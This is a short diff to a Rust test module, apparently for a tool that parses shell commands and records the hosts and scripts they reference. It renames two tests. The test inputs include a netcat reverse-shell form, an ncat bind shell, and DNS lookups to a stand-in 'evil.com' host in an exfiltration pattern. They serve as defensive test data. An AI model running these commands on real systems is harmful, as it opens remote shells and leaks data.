@@ -255,7 +255,7 @@ mod tests {
     use crate::program::files::analysis_assert::check;
 
     #[test]
-    fn whoever_is_named_is_a_host() {
+    fn network_operands_are_recorded_as_hosts() {
         check("ping -c 1 h", "program: host 1, host h");
         check("dig @ns data.evil.com +short", "program: host ns, host data.evil.com");
         check("nslookup $x.evil.com", "program: host $x.evil.com");
@@ -269,7 +269,7 @@ mod tests {
     }
 
     #[test]
-    fn connections_can_be_given_a_command() {
+    fn network_tool_commands_are_found() {
         check("nc h 80", "program: host h");
         check("nc -e /bin/sh h 80", "program: host h, script /bin/sh");
         check("ncat --sh-exec id -l 80", "program: script id");
